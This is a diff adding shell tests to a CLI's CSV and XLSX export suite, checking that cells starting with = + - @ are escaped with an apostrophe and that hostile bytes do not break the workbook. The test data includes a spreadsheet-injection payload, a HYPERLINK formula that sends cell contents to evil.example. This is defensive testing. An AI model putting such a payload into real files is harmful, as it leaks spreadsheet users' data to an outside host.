@@ -37,6 +37,35 @@ t_eq "no -o exits 64" "$rc" "64"
 ab export --establishment XYZ -o "$T_TMP/x.csv" 2>"$T_TMP/err"; rc=$?
 t_eq "an unknown establishment exits 65, writing nothing" "$rc:$(ls "$T_TMP" | grep -c '^x\.csv')" "65:0"
 
+# --- no formula in any CSV (OWASP "CSV injection") --------------------------------------------
+# An editor's note, a revised date's reason, an owner's and an establishment's name, each
+# the start of a formula: in every CSV they come out with a ' in front, and as stored with
+# --raw. The settings are a copy whose owner and establishment names begin with @ and -.
+F=$T_TMP/formulas
+cp -r "$SRC/config/default" "$F"
+sed -i 's/^  - name: "Governor"$/  - name: "@SUM(1+1)"/; s/aliases: \["Governor\.", "The Governor"\]/aliases: ["Governor", "Governor.", "The Governor"]/' "$F/actionboard.yaml"
+sed -i 's/^name: HMP Liverpool$/name: -2+3 Liverpool/' "$F/establishments/LIV.yaml"
+FDB=$T_TMP/formulas.db
+fab() { "$AB" --db "$FDB" --config "$F/actionboard.yaml" "$@"; }
+fab sync -q 2>/dev/null
+K=LIV/2022-07/1.1.1
+fab note "$K" '=HYPERLINK("https://evil.example/?d="&A2&B2,"Details")' >/dev/null
+fab due "$K" 2027-01-31 --reason '+HYPERLINK("https://evil.example")' >/dev/null
+# cells CMD...: every CSV cell the command writes, one a line (python's csv reader).
+cells() { "$@" | python3 -c 'import csv, sys
+for row in csv.reader(sys.stdin):
+    for c in row: print(c.replace("\n", " "))'; }
+bad() { grep -c '^[=+@-]' || true; }
+formula_cells=$(for raw in "" --raw; do
+	echo "$(cells fab export -o - $raw | bad) $(cells fab list --format csv $raw | bad) $(cells fab history "$K" --format csv $raw | bad) $(cells fab owners --format csv $raw | bad) $(cells fab summary --format csv $raw | bad)"
+done | paste -sd'/')
+t_eq "cells that begin with = + - @: none in export, list, history, owners, summary; with --raw, as stored" \
+	"$formula_cells" "0 0 0 0 0/77 77 2 1 2"
+t_has "the note is kept, behind a '" "$(cells fab history "$K" --format csv)" "'=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Details\")"
+t_has "so are the reason" "$(cells fab history "$K" --format csv)" "'+HYPERLINK(\"https://evil.example\")"
+t_has "the owner" "$(cells fab owners --format csv)" "'@SUM(1+1)"
+t_has "and the establishment" "$(cells fab summary --format csv)" "'-2+3 Liverpool"
+
 # --- the workbook ---------------------------------------------------------------------------
 if [ "$XLSX" != yes ]; then
 	ab export --format xlsx -o "$T_TMP/tracker.xlsx" 2>"$T_TMP/err"; rc=$?
@@ -95,4 +124,57 @@ done
 t_eq "odd names export" "$?:$(cat "$T_TMP/err")" "0:"
 check "sheet names are cut to 31 characters, without []:*?/\\, and unique" "$T_TMP/odd.xlsx" "$T_TMP/odd.db" \
 	$'Summary\nLIV 2019-08\nLIV 2022-07\nX_Y_1_ 2022-07-follow-up-review\nX_Y_1_ 2022-07-follow-up-re (2)'
+# Hostile bytes in the database (written with sqlite3, as no actionboard command takes
+# them): invalid UTF-8, C0 and C1 controls, a bidi override, and a formula. The workbook
+# stays well formed XML in every part, its cells hold none of them, and the formula is a
+# string cell.
+H=$T_TMP/hostile.db
+cp "$DB" "$H"
+sqlite3 "$H" "update action set text = 'bad ' || char(1) || ' ' || x'ff' || ' c1 ' || char(155) || ' rlo ' || char(8238) || ' end' where id = (select min(id) from action);
+	update action set target = '=HYPERLINK(\"https://evil.example\")' where id = (select max(id) from action)"
+sqlite3 "$H" "update action set text = cast(text as blob) || x'c3' where id = (select min(id) + 1 from action)"
+"$AB" --db "$H" export -o "$T_TMP/hostile.xlsx" 2>"$T_TMP/err"
+t_eq "a database with invalid UTF-8 and controls exports" "$?:$(cat "$T_TMP/err")" "0:"
+out=$(python3 - "$T_TMP/hostile.xlsx" <<'PY'
+import re, sys, zipfile
+import xml.etree.ElementTree as ET
+book, bad = zipfile.ZipFile(sys.argv[1]), []
+for name in book.namelist():
+    if not name.endswith(".xml") and not name.endswith(".rels"):
+        continue
+    try:
+        root = ET.fromstring(book.read(name))
+    except ET.ParseError as e:
+        bad.append(f"{name}: not well formed: {e}")
+        continue
+    for el in root.iter():
+        if el.tag.endswith("}f"):
+            bad.append(f"{name}: a formula cell: {el.text}")
+        t = el.text or ""
+        hit = re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", t)
+        if hit:
+            bad.append(f"{name}: {hit.group()!r} in {t[:40]!r}")
+        if "_x00" in t:
+            bad.append(f"{name}: an escaped control in {t[:40]!r}")
+print("\n".join(bad) or "ok")
+PY
+)
+t_eq "every part of the workbook is well formed XML with no control, bidi character or formula" "$out" "ok"
+t_has "the bad bytes show as U+FFFD, the text around them kept" \
+	"$(unzip -p "$T_TMP/hostile.xlsx" 'xl/worksheets/*.xml' xl/sharedStrings.xml 2>/dev/null)" "bad � � c1 � rlo � end"
+if python3 -c 'import openpyxl' 2>/dev/null; then
+	python3 -c 'import openpyxl, sys; openpyxl.load_workbook(sys.argv[1])' "$T_TMP/hostile.xlsx" 2>"$T_TMP/err"
+	t_eq "openpyxl opens it" "$?:$(tail -n1 "$T_TMP/err")" "0:"
+else
+	T_N=$((T_N + 1)); echo "ok $T_N - openpyxl opens it # SKIP python3-openpyxl is not installed"
+fi
+
+# A write that fails (here a file size limit: ulimit -f counts KiB in bash) names the file
+# and the system's reason, and leaves no file.
+# The database has an action text of 80,000 hex digits (about 45 KiB compressed), so the
+# workbook outgrows the limit, which leaves room for SQLite's 32 KiB -shm file.
+sqlite3 "$H" "update action set text = hex(randomblob(40000)) where id = (select min(id) from action)"
+(ulimit -f 36; exec "$AB" --db "$H" export -o "$T_TMP/full.xlsx") 2>"$T_TMP/err"; rc=$?
+t_eq "a workbook that cannot be written exits 74, leaving no file" "$rc $(ls "$T_TMP" | grep -c 'full')" "74 0"
+t_has "naming the file and the cause" "$(cat "$T_TMP/err")" "$T_TMP/full.xlsx: cannot write the workbook: File too large"
 t_done
